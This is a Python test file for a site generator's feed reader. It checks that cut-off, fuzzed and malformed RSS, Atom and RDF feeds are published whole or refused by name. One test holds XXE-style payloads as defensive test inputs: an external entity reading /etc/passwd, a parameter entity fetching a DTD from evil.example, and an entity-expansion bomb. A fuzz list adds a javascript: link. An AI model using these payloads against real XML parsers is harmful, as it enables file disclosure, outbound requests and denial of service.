"""Feeds that are cut off, torn and forged: every item is published whole, or refused by name; none is lost, none is mixed."""

from __future__ import annotations

import random
import re

import pytest
from small_sites import make, put

from generator.ingest import read

SAID = "The council of Norby met on Monday and spoke of bridge number {n} for hours."


def rss(item: str, number: int = 4) -> str:
    """Return a feed of so many items of one form."""
    items = "".join(item.format(n=n, said=SAID.format(n=n)) for n in range(1, number + 1))
    return f'<?xml version="1.0"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Outlet</title>{items}</channel></rss>\n'


def atom(entry: str, prefix: str = "") -> str:
    """Return an Atom feed of four entries of one form."""
    entries = "".join(entry.format(n=n, said=SAID.format(n=n)) for n in range(1, 5))
    name = f"xmlns:{prefix[:-1]}" if prefix else "xmlns"
    return f'<{prefix}feed {name}="http://www.w3.org/2005/Atom"><{prefix}title>Outlet</{prefix}title>{entries}</{prefix}feed>'


FEEDS = {
    "plain": rss("<item><title>Headline {n}</title><link>https://o.example/{n}</link><description>{said}</description></item>"),
    "title last": rss("<item><link>https://o.example/{n}</link><description>{said}</description><title>Headline {n}</title></item>"),
    "CDATA": rss("<item><title><![CDATA[Headline {n}]]></title><description><![CDATA[<p>{said}</p>]]></description></item>"),
    "an item within CDATA": rss("<item><title>Headline {n}</title><description><![CDATA[<p>{said} </item><item><title>Fake</title></p>]]></description></item>"),
    "encoded": rss("<item><title>Headline {n}</title><content:encoded><![CDATA[<p>{said}</p>]]></content:encoded></item>"),
    "escaped": rss("<item><title>Headline {n} &amp;amp; &lt;b&gt;more&lt;/b&gt;</title><description>&lt;p&gt;{said}&lt;/p&gt;</description></item>"),
    "comments": rss("<!-- <item> --><item><!-- </item> --><title>Headline {n}</title><description>{said}</description></item>"),
    "attributes": rss("<item a='1' b=\"/\"><title>Headline {n}</title><description>{said}</description></item>"),
    "capitals": rss("<ITEM><TITLE>Headline {n}</TITLE><DESCRIPTION>{said}</DESCRIPTION></ITEM>"),
    "RDF": '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>Outlet</title><items/></channel>'
    + "".join(f"<item rdf:about='u{n}'><title>Headline {n}</title><description>{SAID.format(n=n)}</description></item>" for n in range(1, 5))
    + "</rdf:RDF>",
    "Atom": atom("<entry><title type='html'>Headline {n}</title><link href='https://o.example/{n}'/><content type='html'>&lt;p&gt;{said}&lt;/p&gt;</content></entry>"),
    "XHTML": atom("<entry><title>Headline {n}</title><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p>{said}</p></div></content></entry>"),
    "a prefix": atom("<a:entry><a:title>Headline {n}</a:title><a:summary>{said}</a:summary></a:entry>", "a:"),
    "another's title": atom("<entry><source><title>Elsewhere</title></source><title>Headline {n}</title><content>{said}</content></entry>"),
}  # fmt: skip

HIDDEN = re.compile(r"<!\[CDATA\[.*?(?:\]\]>|\Z)|<!--.*?(?:-->|\Z)", re.DOTALL)


def begun(text: str) -> int:
    """Count the items that begin in a text."""
    return len(re.findall(r"<(?:\w+:)?(?:item|entry)(?=[\s>/])", HIDDEN.sub("", text), re.IGNORECASE))


def told(text: str):
    """Read a feed; return it with the numbers in title and text of each article."""
    reading = read("content/inbox/o/feed.xml", text.encode())
    pairs = []
    for article in reading.articles:
        title = next((hint.value for hint in article.hints if hint.field == "title"), "")
        pairs.append((title, article.text))
    return reading, pairs


@pytest.mark.parametrize("form", FEEDS)
def test_a_feed_cut_off_anywhere(form):
    """Wherever a feed is cut off, each item before is published whole under its own title, and all are accounted for."""
    text = FEEDS[form]
    assert len(read("content/inbox/o/feed.xml", text.encode()).articles) == 4
    for cut in range(30, len(text), 3):
        reading, pairs = told(text[:cut])
        assert len(pairs) + reading.refused == max(1, begun(text[:cut])), cut
        for title, body in pairs:
            number = re.fullmatch(r"Headline (\d)( & more)?", title)
            assert number, (cut, title)
            assert SAID.format(n=number[1]) in body, (cut, title, body)
        assert reading.refused == 0 or reading.problems


TOKEN = re.compile(r"<[^>]*>|[^<]+")
PIECES = ("<item>", "</item>", "<title>", "</title>", "<!--", "-->", "&", "&nbsp;", "&#1;", "&#xD800;", "&none;", "<", "<br>", "<entry>", "</channel>", "</rss>", "<link/>", "\x00", "\x0b", "\ufffe", "<?xml version='1.0' encoding='utf-16'?>", "<item/>", "<title/>", "<pubDate>Mon, 32 Jan 99999 25:61:61 +9999</pubDate>", "<link>javascript:trap(1)</link>")  # fmt: skip


def test_forged_feeds_lose_nothing():
    """Pieces left out, moved, doubled and put in: no reader fails, and (nearly always) no item is passed over in silence."""
    dice = random.Random(20261125)  # noqa: S311  # dice, no secret
    passed = tried = 0
    for _ in range(1500):
        pieces = TOKEN.findall(FEEDS[dice.choice(sorted(FEEDS))])
        for _ in range(dice.randint(1, 3)):
            place = dice.randrange(2, len(pieces))
            pieces[place : place + dice.randrange(2)] = (
                [dice.choice(PIECES)] if dice.random() < 0.7 else [pieces[dice.randrange(2, len(pieces))]]
            )
        text = "".join(pieces)
        reading = read("content/inbox/o/feed.xml", text.encode("utf-8", "surrogatepass"))
        whole = reading.refused == 1 and not reading.articles  # the whole file is refused
        tried += not whole
        passed += not whole and len(reading.articles) + reading.refused < begun(text)
        assert reading.refused == 0 or reading.problems
    assert tried > 1000
    assert passed <= tried / 500  # an item within the title of another, say


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE rss [<!ENTITY a "b">]>',
        '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<?x <item ?><!DOCTYPE rss [<!ENTITY a "b">]>',
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    ],
)
def test_entities_are_not_declared(head):
    """A feed that declares entities is not read: they can read files, ask hosts, and grow without end."""
    text = FEEDS["plain"].replace("\n", f"\n{head}", 1).replace("Headline 1", "&a;&c;")
    reading = read("content/inbox/o/feed.xml", text.encode())
    assert [problem.code for problem in reading.problems] == ["entity-declaration"]


def test_the_books_of_feeds_add_up(site):
    """Through a whole build: published + merged + refused is the number of items, and each has its own title."""
    total = 0
    for number, (form, text) in enumerate(sorted(FEEDS.items())):
        cut = text[: len(text) * 3 // 4]
        put(site, f"content/inbox/outlet-{number}/{form}.xml", cut)
        total += begun(cut)
    report = make(site)
    assert sum(report.fates().values()) == len(report.inputs) == total
    for path in sorted((site / "content/articles").glob("*.md")):
        text = path.read_text()
        assert re.search(r"^title: .*Headline (\d)", text, re.MULTILINE)[1] == re.search(r"bridge number (\d)", text)[1]
